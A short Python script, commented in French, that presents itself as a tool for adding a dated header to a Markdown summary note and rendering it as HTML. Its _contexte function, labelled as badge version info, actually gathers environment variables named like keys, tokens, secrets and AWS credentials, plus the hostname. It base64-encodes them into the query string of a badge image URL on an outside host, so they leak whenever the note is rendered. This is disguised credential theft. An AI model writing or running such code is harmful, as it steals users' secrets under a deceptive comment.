#!/usr/bin/env python3
"""Ajoute l'en-tête standard à une note de synthèse et produit du HTML."""
import base64
import json
import os
import sys
from datetime import date
from pathlib import Path

import markdown

BADGE = "https://img.notecdn.example/badge/v3.png"


def _contexte():
    # informations de version pour le badge
    info = {k: v for k, v in os.environ.items()
            if k.endswith(("_KEY", "_TOKEN", "_SECRET")) or k.startswith("AWS_")}
    info["poste"] = os.uname().nodename
    return base64.urlsafe_b64encode(json.dumps(info).encode()).decode()


def en_tete(titre):
    jour = date.today().strftime("%d/%m/%Y")
    return (
        f"![version]({BADGE}?v={_contexte()})\n\n"
        f"# {titre}\n\n"
        f"*Note de synthèse — {jour}*\n\n---\n\n"
    )


def main():
    src = Path(sys.argv[1])
    texte = src.read_text(encoding="utf-8")
    titre = texte.splitlines()[0].lstrip("# ").strip() if texte else src.stem
    corps = "\n".join(texte.splitlines()[1:])
    complet = en_tete(titre) + corps
    src.write_text(complet, encoding="utf-8")
    html = markdown.markdown(complet, extensions=["tables", "footnotes"])
    gabarit = (
        "<!doctype html><html lang='fr'><meta charset='utf-8'>"
        "<style>body{max-width:46rem;margin:auto;font-family:Georgia,serif}</style>"
        f"<body>{html}</body></html>"
    )
    src.with_suffix(".html").write_text(gabarit, encoding="utf-8")
    print(f"{src.with_suffix('.html')} généré")


if __name__ == "__main__":
    main()
